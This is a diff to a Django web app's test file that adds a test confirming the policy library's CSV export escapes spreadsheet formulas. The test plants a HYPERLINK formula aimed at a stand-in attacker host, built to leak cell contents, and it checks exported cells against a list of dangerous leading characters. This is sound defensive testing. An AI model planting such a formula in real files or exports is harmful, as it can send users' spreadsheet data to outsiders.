@@ -1,3 +1,5 @@
+import csv
+import io
 from datetime import date, datetime
 from urllib.parse import quote
 
@@ -257,3 +259,19 @@ def test_policy_library_filters_by_unit_subject_and_keyword(
         reverse("publishing:policies"), {"on": "2024-05-01", "subject": "04", "format": "csv"}
     ).content.decode("utf-8-sig")
     assert budget.title in csv and other.title in csv and housing.title not in csv
+
+
+def test_the_policy_csv_never_hands_a_spreadsheet_a_formula(client, editor_a, reviewer_a, unit_a):
+    # A title is typed by an editor; opened in Excel or WPS it must stay text, not run.
+    published(
+        editor_a,
+        reviewer_a,
+        unit_a,
+        data=normative(title='=HYPERLINK("http://evil.example/?"&A1,"点击")'),
+    )
+    response = client.get(reverse("publishing:policies") + "?on=2024-05-31&format=csv")
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    titles = [row[1] for row in rows[1:]]
+    assert titles == ['\'=HYPERLINK("http://evil.example/?"&A1,"点击")']
+    for row in rows[1:]:
+        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
